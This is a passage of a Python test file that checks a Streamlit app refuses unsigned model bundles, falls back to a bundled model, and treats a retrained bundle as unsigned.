    monkeypatch.setenv("MRRP_TRUSTED_KEYS", str(keys["trusted"]))
    refused = AppTest.from_file(str(REPO / "app.py"), default_timeout=120)
    refused.session_state["model_choice"] = "unsigned (site model)"
    refused.run()
    assert not refused.exception
    (error,) = [e.value for e in refused.sidebar.error]
    assert "is not signed, so it was not loaded" in error and "Using the bundled model instead" in error
    signed = AppTest.from_file(str(REPO / "app.py"), default_timeout=120)
    signed.session_state["model_choice"] = "signed (site model)"
    signed.run()
    assert not signed.exception and not signed.sidebar.error
    assert "Signed by Site A." in [c.value for c in signed.sidebar.caption]


def test_retraining_over_a_signed_bundle_leaves_it_unsigned(site_bundle: Path, keys: dict[str, Path]) -> None:
    from mrrp.model.bundle import write_atomic_bundle
    from mrrp.model.signing import provenance, sign_bundle

    sign_bundle(site_bundle, keys["a"])
    write_atomic_bundle(site_bundle, lambda folder: (folder / "config.json").write_text("{}"))
    assert not (site_bundle / "signature.json").exists(), "a new bundle is signed again by the site, not inherited"
    assert provenance(site_bundle, bundle_checksum(site_bundle), _settings(keys)).kind == "unsigned"
